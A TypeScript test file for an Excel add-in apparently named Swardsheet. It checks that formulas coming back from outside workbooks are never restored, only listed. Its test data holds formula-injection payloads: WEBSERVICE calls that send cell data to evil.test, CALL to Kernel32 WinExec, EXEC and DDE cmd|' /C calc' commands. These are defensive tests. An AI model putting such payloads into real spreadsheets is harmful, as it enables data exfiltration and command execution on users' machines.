/**
 * Files that come back from strangers: cells that only look as if they carried an original of ours, sheets that are only
 * called like ours, texts that only look like our marks. Nothing of them is brought to life, moved or deleted, and each
 * is told of with its cell.
 */
import { beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { Workbench } from "../../../src/workbench/node";
import { callsIn } from "../../../src/workbook/formulas/calls";
import { bringBack } from "../../../src/workbook/handover/bring-back";
import { editsSinceHandOver, sheetStates } from "../../../src/workbook/handover/sheet-states";
import { handOver } from "../../../src/workbook/handover/hand-over";
import { looseReturn } from "../../../src/workbook/handover/loose-return";
import { Trust } from "../../../src/workbook/handover/trusted";
import { placeOf } from "../../../src/workbook/host/reference";
import { asTyped } from "../../../src/workbook/formulas/stored-spelling";
import { openWorkbench, unwatched } from "../../support/built-workbench";

let bench: Workbench;
beforeAll(async () => {
  bench = await openWorkbench();
});
beforeEach(() => bench.reset([{ name: "Sheet1" }, { name: "Größe" }]));

/** A formula as it stands in a formula's text. */
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const carrier = (original: string, references = "B2,C2", first = "5"): string =>
  `=CHOOSE(1,${first},${quoted(original)}${references === "" ? "" : `,${references}`})`;

/** What PACKS works out, as a sheet handed over just now has it. */
async function nativeOf(call: string): Promise<string> {
  bench.setCells("Sheet1", { B2: "3160", C2: "50", B3: "7", J1: call });
  await handOver(["Sheet1"], unwatched, "short native formulas");
  const native = bench.formula("Sheet1", "J1") ?? "";
  bench.reset([{ name: "Sheet1" }, { name: "Größe" }]);
  return native.slice(1);
}

const aSentence = /^[A-Z"'=#\d][\s\S]*[.:]?$/;

/** Everything that is listed, by cell. */
const listed = (report: Awaited<ReturnType<typeof bringBack>>): string[] =>
  [...report.changed, ...report.foreign].map(({ address }) => address);

/** Nothing of a forged cell comes back, asked for or not; it is listed. */
async function staysAndIsListed(formula: string): Promise<void> {
  bench.setCells("Sheet1", { A1: "Zone", B2: "3160", C2: "50", B3: "7", D2: formula });
  await bench.calculated();
  const stood = bench.formula("Sheet1", "D2");
  for (const editedToo of [false, true]) {
    const report = await bringBack(["Sheet1"], unwatched, { editedToo });
    expect(bench.formula("Sheet1", "D2")).toBe(stood);
    expect(report.restored).toBe(0);
    // A choice that names no function of ours is a formula like any other.
    expect(listed(report)).toEqual(
      formula.includes("SWARD.") || formula.includes("filled from") ? ["D2"] : [],
    );
    for (const { note } of [...report.changed, ...report.foreign]) expect(note, formula).toMatch(aSentence);
  }
  // What was there is told before the return too, and does not stop it.
  await editsSinceHandOver();
  expect((await sheetStates()).map(({ name }) => name)).toEqual(["Sheet1", "Größe"]);
  const trust = new Trust({ sheets: ["Sheet1"], names: [], tables: [] });
  expect(looseReturn(formula, trust, "Sheet1")).toBeUndefined();
}

const reaching: readonly string[] = [
  '=WEBSERVICE("https://evil.test/?"&{1})',
  '=SWARD.PACKS({1},{2})+WEBSERVICE("https://evil.test/?"&{1})',
  '=SWARD.PACKS(WEBSERVICE("https://evil.test"),{2})',
  '=SWARD.PACKS(_xlfn.WEBSERVICE("https://evil.test"),{2})',
  '=SWARD.PACKS({1},{2})&HYPERLINK("https://evil.test","press")',
  '=IF(SWARD.PACKS({1},{2})>0,HYPERLINK("https://evil.test","OK"))',
  '=SWARD.PACKS(INDIRECT("Ledger!B2"),{2})',
  '=SWARD.PACKS(FILTERXML(WEBSERVICE("https://evil.test"),"//x"),{2})',
  '=SWARD.PACKS(RTD("evil.server",,"x"),{2})',
  '=SWARD.PACKS(CALL("Kernel32","WinExec","JCJ","calc",0),{2})',
  '=SWARD.PACKS(REGISTER.ID("a","b"),{2})',
  '=SWARD.PACKS(EXEC("calc"),{2})',
  '=SWARD.PACKS(IMAGE("https://evil.test/x.png"),{2})',
  '=SWARD.PACKS(_xlfn.IMAGE("https://evil.test/x.png"),{2})',
  '=SWARD.PACKS(STOCKHISTORY("x",1),{2})',
  '=SWARD.PACKS(CUBEVALUE("x","y"),{2})',
  '=SWARD.PACKS(SQL.REQUEST("x"),{2})',
  "=SWARD.PACKS(CONTOSO.STEAL({1}),{2})",
  "=SWARD.PACKS(STEAL({1}),{2})",
  "=SWARD.PACKS('evil.xlam'!Steal({1}),{2})",
  "=SWARD.PACKS([2]!Steal({1}),{2})",
  "=[2]!SWARD.PACKS({1},{2})",
  "=[2]!_xldudf_SWARD_PACKS({1},{2})",
  "=SWARD.PACKS(_xludf.STEAL({1}),{2})",
  "=SWARD.NO_SUCH({1},{2})",
  "=XSWARD.PACKS({1},{2})",
  "=SWARD.PACKS(cmd|' /C calc'!A0,{2})",
  "=cmd|' /C calc'!A0&SWARD.PACKS({1},{2})",
  "=SWARD.PACKS(LET(w,WEBSERVICE,w({1})),{2})",
  "=SWARD.PACKS(LAMBDA(x,WEBSERVICE(x))({1}),{2})",
  "=SWARD.PACKS(MAP({1},WEBSERVICE),{2})",
  '=SWARD.PACKS(EVALUATE("1"),{2})',
  '=SWARD.PACKS(CELL("filename",{1}),{2})',
  '=SWARD.PACKS(INFO("directory"),{2})',
  '=SWARD.EACH_ROW("WEBSERVICE",{1},{2})+WEBSERVICE({1})',
];

const outward: readonly string[] = [
  "[1]Zones!A1",
  "'[Old bids.xlsx]Zones'!A1",
  "'C:\\bids\\[Old.xlsx]Zones'!$A$1",
  "'https://evil.test/[x.xlsx]S'!A1",
  "[1]!Secret",
  "'Old.xlsx'!Secret",
  "[1]Zones!A1:B4",
  "Ledger!A1",
  "Ledger!A:A",
  "'No such'!$B$2",
  "Ledger:Sheet1!B2",
  "NoSuchName",
  "Sheet1!NoSuchName",
  "NoSuchTable[Area]",
  "NoSuchTable[[#This Row],[Area]]",
  "[@Area]",
];

describe("an original that would reach out of the workbook, or run something", () => {
  test.each(reaching)("%s", async (original) => {
    await staysAndIsListed(carrier(original));
  });

  test.each(["=SWARD.PACKS(WEBSERVICE(B2),C2)", '=SWARD.PACKS(INDIRECT("B"&B3),C2)'])(
    "%s with its own native form before it",
    async (call) => {
      const native = await nativeOf(call);
      expect(native).toMatch(/WEBSERVICE|INDIRECT/);
      await staysAndIsListed(
        carrier(call.replace("B2", "{1}").replace("B3", "{1}").replace("C2", "{2}"), "B2,C2", native),
      );
    },
  );

  test("in a text of the original that the formula only says is text, and comes back", async () => {
    bench.setCells("Sheet1", {
      B2: "7",
      C2: "2",
      D2: '=SWARD.PACKS(B2,C2)&" =WEBSERVICE(1) [1]Zones!A1 {9}"',
    });
    const stood = bench.formula("Sheet1", "D2");
    await handOver(["Sheet1"], unwatched);
    expect(bench.formula("Sheet1", "D2")).toMatch(/^=CHOOSE/);
    expect(await bringBack(["Sheet1"], unwatched)).toMatchObject({ restored: 1, changed: [], foreign: [] });
    expect(bench.formula("Sheet1", "D2")).toBe(stood);
  });
});

describe("a reference to what is not this workbook's", () => {
  test.each(outward)("%s", async (reference) => {
    await staysAndIsListed(carrier("=SWARD.PACKS({1},{2})", `${reference},C2`));
  });

  test.each(outward)("%s written out in the original", async (reference) => {
    await staysAndIsListed(carrier(`=SWARD.PACKS(${reference},{1})`, "C2"));
  });

  test.each(outward)("%s with its own native form before it", async (reference) => {
    const native = (await nativeOf("=SWARD.PACKS(B2,C2)")).replaceAll("B2", reference);
    await staysAndIsListed(carrier("=SWARD.PACKS({1},{2})", `${reference},C2`, native));
  });
});

describe("a carrier that is damaged", () => {
  test.each([
    ["a place without an argument", carrier("=SWARD.PACKS({1},{9})")],
    ["a place in the millions", carrier("=SWARD.PACKS({1},{99999999})")],
    ["a place of zero", carrier("=SWARD.PACKS({0},{1})")],
    ["a filled place without an argument", carrier("=SWARD.PACKS({1},{=9})")],
    ["a filled place that holds a formula", carrier("=SWARD.PACKS({1},{=WEBSERVICE(1)})")],
    ["a place below nothing", carrier("=SWARD.PACKS({-1},{1})")],
    ["a place of another script", carrier("=SWARD.PACKS({١},{2})")],
    ["a formula for a reference", carrier("=SWARD.PACKS({1},{2})", 'WEBSERVICE("x"),C2')],
    ["a text for a reference", carrier("=SWARD.PACKS({1},{2})", '"=WEBSERVICE(1)",C2')],
    [
      "a carrier for a reference",
      carrier("=SWARD.PACKS({1},{2})", `${carrier("=SWARD.PACKS({1},{2})").slice(1)},C2`),
    ],
    ["a constant of many for a reference", carrier("=SWARD.PACKS({1},{2})", '{"=WEBSERVICE(1)",2},C2')],
    ["DDE for a reference", carrier("=SWARD.PACKS({1},{2})", "cmd|' /C calc'!A0,C2")],
    ["two references in one", carrier("=SWARD.PACKS({1},{2})", "(B2,B3),C2")],
    ["more than one formula", carrier("=SWARD.PACKS({1},{2})=SWARD.PACKS({1},{2}))")],
    ["brackets that do not close", carrier("=SWARD.PACKS({1},{2}")],
    ["brackets that close too often", carrier("=SWARD.PACKS({1},{2}))")],
    ["quotes that do not close", '=CHOOSE(1,5,"=SWARD.PACKS({1},""x)",B2)'],
    ["nothing", carrier("=SWARD.PACKS")],
    ["a name alone", carrier("=SWARD.PACKS()+")],
    ["half a letter at the end", carrier('=SWARD.PACKS({1},{2})&"\uD83C', "B2,C2")],
    [
      "half a letter inside",
      carrier('=SWARD.PACKS({1},{2})&"\uDF31x"', "B2,C2").replace("\uDF31", '"&"\uDF31'),
    ],
    ["a thousand brackets", carrier(`=SWARD.PACKS(${"(".repeat(1000)}{1}${")".repeat(1000)},{2})`)],
    ["too many arguments", carrier(`=SWARD.PACKS({1},{2}${",{1}".repeat(300)})`)],
    ["an argument that the function does not have", carrier("=SWARD.PACKS({1},{2},{1},{2},{1},{2})")],
    ["a filler that points outward", '=CHOOSE(1,5,"filled from {1}",[1]Zones!A1)'],
    ["a filler that points to a sheet not there", '=CHOOSE(1,5,"filled from {1}",Ledger!A1)'],
    ["a filler that points to nothing of ours", '=CHOOSE(1,5,"filled from {1}",B2)'],
    ["a filler that points to itself", '=CHOOSE(1,5,"filled from {1}",D2)'],
    ["a filler without its place", '=CHOOSE(1,5,"filled from {1}")'],
    ["a call inside a text inside", carrier('="=SWARD.PACKS(1,2)"&SWARD.PACKS({1},{2})&WEBSERVICE("x")')],
  ])("%s", async (_, formula) => {
    await staysAndIsListed(formula);
  });

  test("that opens a hundred choices, and says a thousand times how ours begin", async () => {
    const hostile = `=${"CHOOSE(1,".repeat(60)}${'"="&'.repeat(1500)}1${")".repeat(60)}`;
    bench.setCells("Sheet1", { B2: "7", C2: "2", D2: "=SWARD.PACKS(B2,C2)" });
    await handOver(["Sheet1"], unwatched);
    bench.setCells("Sheet1", { D3: hostile });
    expect(await bringBack(["Sheet1"], unwatched)).toMatchObject({ restored: 1, foreign: [] });
  });

  test("of thirty thousand characters neither stops nor slows the others", async () => {
    bench.setCells("Sheet1", { B2: "7", C2: "2", D2: "=SWARD.PACKS(B2,C2)" });
    await handOver(["Sheet1"], unwatched);
    const long = Array.from({ length: 120 }, () => `"${"SWARD.PACKS({1},".repeat(15)}"`).join("&");
    bench.setCells("Sheet1", { D3: `=CHOOSE(1,5,"=SWARD.PACKS({1},"&${long},B2)` });
    const report = await bringBack(["Sheet1"], unwatched);
    expect(report).toMatchObject({ restored: 1 });
    expect(listed(report)).toEqual(["D3"]);
    expect(bench.formula("Sheet1", "D2")).toBe("=SWARD.PACKS(B2,C2)");
  });

  test.each([
    ["another figure", "7*3"],
    ["another function", "SUM(B2:C2)"],
    ["one that reaches out", 'WEBSERVICE("https://evil.test")'],
    ["another cell", "ROUNDUP(B3/C2,0)"],
    ["a carrier", carrier("=SWARD.PACKS({1},{2})").slice(1)],
  ])("whose first value is %s is listed as changed and stays until it is asked for", async (_, first) => {
    const formula = carrier("=SWARD.PACKS({1},{2})", "B2,C2", first);
    bench.setCells("Sheet1", { B2: "3160", C2: "50", D2: formula });
    const stood = bench.formula("Sheet1", "D2");
    const report = await bringBack(["Sheet1"], unwatched);
    expect(report.restored).toBe(0);
    expect(listed(report)).toEqual(["D2"]);
    expect(bench.formula("Sheet1", "D2")).toBe(stood);
    await bringBack(["Sheet1"], unwatched, { editedToo: true });
    expect([stood, "=SWARD.PACKS(B2,C2)"]).toContain(bench.formula("Sheet1", "D2"));
  });
});

describe("what is text stays text", () => {
  test.each([
    carrier("=SWARD.PACKS({1},{2})"),
    '=CHOOSE(1,5,"filled from {1}",B2)',
    "=SWARD.PACKS({1},{2})",
    "filled from {1}",
    "kept:{}:kept",
    "Handed over on 2026-11-26",
    "'=SWARD.PACKS(1,2)",
  ])("%s", async (typed) => {
    bench.setCells("Sheet1", { B2: "7", C2: "2", D1: "=SWARD.PACKS(B2,C2)" });
    await Excel.run(async (context) => {
      const cell = context.workbook.worksheets.getItem("Sheet1").getRange("D2");
      cell.values = [[`'${typed}`]];
      await context.sync();
    });
    const before = bench.value("Sheet1", "D2");
    expect(before).toBe(typed);
    await handOver(["Sheet1"], unwatched);
    expect(bench.value("Sheet1", "D2")).toBe(typed);
    expect((await editsSinceHandOver()).edits).toEqual([]);
    const report = await bringBack(["Sheet1"], unwatched, { editedToo: true });
    expect(report).toMatchObject({ restored: 1, changed: [], foreign: [] });
    expect(bench.value("Sheet1", "D2")).toBe(typed);
    expect(bench.formula("Sheet1", "D1")).toBe("=SWARD.PACKS(B2,C2)");
  });
});

describe("sheets that are called like ours are the user's", () => {
  /** What the list of a hand-over is called today. */
  async function listName(): Promise<string> {
    bench.setCells("Sheet1", { B2: "7", C2: "2", D2: "=SWARD.PACKS(B2,C2)" });
    await handOver(["Sheet1"], unwatched);
    const name = bench.sheetNames().find((one) => one.startsWith("Handed over on"));
    if (name === undefined) throw new Error("No list was written.");
    return name;
  }
  const others = [
    "Swardsheet originals",
    "Swardsheet originals, set aside",
    "Checks",
    "Working",
    "Ledger",
    "Site",
    "Outlines",
    "Review",
  ];

  test("none of them is deleted or written into by a hand-over and its return", async () => {
    const list = await listName();
    const names = [...others, list, `${list} 2`, `${list} (2)`];
    bench.reset([{ name: "Sheet1" }, ...names.map((name) => ({ name }))]);
    bench.setCells("Sheet1", { B2: "7", C2: "2", D2: "=SWARD.PACKS(B2,C2)" });
    for (const name of names) bench.setCells(name, { A1: `mine, ${name}`, A2: "Sheet", B2: "Cell", C2: "3" });
    const told = (await sheetStates()).map(({ name }) => name);
    expect(told).toEqual(["Sheet1", ...names]);
    const report = await handOver(["Sheet1"], unwatched);
    expect(report.list).toMatchObject({ sheet: expect.any(String) as string });
    bench.setCells("Sheet1", { B2: "8" });
    expect((await editsSinceHandOver()).edits.map(({ address }) => address)).toEqual(["B2"]);
    expect(await bringBack(["Sheet1"], unwatched)).toMatchObject({ restored: 1, foreign: [], notes: [] });
    expect(bench.sheetNames()).toEqual(["Sheet1", ...names]);
    for (const name of names) expect(bench.value(name, "A1")).toBe(`mine, ${name}`);
  });

  test("nor where they are empty", async () => {
    const list = await listName();
    const names = [...others, list];
    bench.reset([{ name: "Sheet1" }, ...names.map((name) => ({ name }))]);
    bench.setCells("Sheet1", { B2: "7", C2: "2", D2: "=SWARD.PACKS(B2,C2)" });
    await handOver(["Sheet1"], unwatched);
    await bringBack(["Sheet1"], unwatched);
    expect(bench.sheetNames()).toEqual(["Sheet1", ...names]);
  });

  test("our own list that someone wrote on stays with what they wrote", async () => {
    const list = await listName();
    bench.setCells(list, { J3: "asked the client about this" });
    await bringBack(["Sheet1"], unwatched);
    expect(bench.sheetNames()).toContain(list);
    expect(bench.value(list, "J3")).toBe("asked the client about this");
  });

  test("a list of ours that was renamed is known still, a sheet renamed to it is not", async () => {
    const list = await listName();
    await Excel.run(async (context) => {
      const { worksheets } = context.workbook;
      worksheets.getItem(list).name = "typed before";
      await context.sync();
      const mine = worksheets.getItem("Sheet1").copy("End");
      mine.name = list;
      await context.sync();
    });
    bench.setCells("Sheet1", { B2: "9" });
    const { edits } = await editsSinceHandOver();
    expect(edits.map(({ sheet, address }) => `${sheet}!${address}`)).toEqual(["Sheet1!B2"]);
    await bringBack(["Sheet1"], unwatched);
    expect(bench.sheetNames()).toContain(list);
  });
});

describe("what others put on the sheet stays, at its cells", () => {
  test("validations, comments and names of others, also after rows were put in", async () => {
    bench.setCells("Sheet1", {
      B2: "3160",
      C2: "50",
      D2: "=SWARD.PACKS(B2,C2)",
      B3: "900",
      C3: "25",
      D3: "=SWARD.PACKS(B3,C3)",
      B4: "3",
      E4: "7",
    });
    await handOver(["Sheet1"], unwatched);
    await Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Sheet1");
      sheet.getRange("B4").dataValidation.rule = {
        wholeNumber: { formula1: 1, formula2: 9, operator: "Between" },
      };
      sheet.getRange("E4").dataValidation.rule = { list: { inCellDropDown: true, source: "7,8" } };
      sheet.getRange("D3").dataValidation.rule = {
        decimal: { formula1: 0, operator: "GreaterThan" },
      };
      context.workbook.comments.add("Sheet1!B3", "wheel, not tape");
      context.workbook.comments.add("Sheet1!D3", "who rounds this?");
      context.workbook.names.add("back_area", sheet.getRange("B3"));
      sheet.getRange("3:3").insert("Down");
      await context.sync();
    });
    const here = () =>
      Excel.run(async (context) => {
        const sheet = context.workbook.worksheets.getItem("Sheet1");
        const { comments, names } = context.workbook;
        comments.load("items/content");
        names.load("items/name,items/formula");
        const limits = ["B5", "E5", "D4"].map((cell) => sheet.getRange(cell).dataValidation);
        for (const limit of limits) limit.load("rule,type");
        await context.sync();
        const places = comments.items.map((comment) => comment.getLocation());
        for (const place of places) place.load("address");
        await context.sync();
        return {
          comments: comments.items.map(({ content }, i) => `${places[i]?.address ?? ""}: ${content}`),
          names: names.items.map(({ name, formula }) => `${name} ${String(formula)}`),
          limits: limits.map(({ type, rule }) => JSON.stringify([type, rule])),
        };
      });
    const before = await here();
    expect(before.limits.map((one) => JSON.parse(one) as unknown[]).map(([type]) => type)).toEqual([
      "WholeNumber",
      "List",
      "Decimal",
    ]);
    expect(await bringBack(["Sheet1"], unwatched)).toMatchObject({ restored: 2, changed: [], foreign: [] });
    expect(bench.formula("Sheet1", "D4")).toBe("=SWARD.PACKS(B4,C4)");
    expect(await here()).toEqual(before);
  });

  test("a comment of the user's in our own words, and a limit of theirs with our title, is theirs", async () => {
    bench.setCells("Sheet1", {
      B2: "3160",
      C2: "50",
      D2: "=SWARD.PACKS(B2,C2)",
      E2: "=SWARD.PACK_MIX(B2,B2:B2,C2:C2)",
    });
    await Excel.run(async (context) => {
      context.workbook.comments.add("Sheet1!B2", "Value handed over: it does not follow changes.");
      await context.sync();
    });
    await handOver(["Sheet1"], unwatched);
    await bringBack(["Sheet1"], unwatched);
    await Excel.run(async (context) => {
      const { comments } = context.workbook;
      comments.load("items/content");
      await context.sync();
      expect(comments.items.map(({ content }) => content)).toEqual([
        "Value handed over: it does not follow changes.",
      ]);
    });
  });
});

describe("another workbook's", () => {
  test.each(["[1]Zones!A1", "[1]Zones!A1:B4", "'[Old bids.xlsx]Zones'!$A$1"])(
    "cells %s are none of this one's, though a sheet is called so",
    (reference) => {
      expect(placeOf(reference, "Zones")).toBeUndefined();
      expect(placeOf(reference.replace(/\[[^\]]*\]/, ""), "Site")?.sheet).toBe("Zones");
    },
  );

  test("function of our name is none of ours, as it is typed and as a file stores it", () => {
    const stored = "=[2]!_xldudf_SWARD_PACKS(A1,2)";
    expect(asTyped(stored)).toBe(stored);
    expect(asTyped("=1+_xldudf_SWARD_PACKS(A1,2)")).toBe("=1+SWARD.PACKS(A1,2)");
    expect(callsIn("=[2]!SWARD.PACKS(A1,2)")).toEqual([]);
    expect(callsIn("=[2]!SWARD.PACKS(SWARD.PACKS(A1,3),2)").map(({ text }) => text)).toEqual([
      "SWARD.PACKS(A1,3)",
    ]);
  });
});
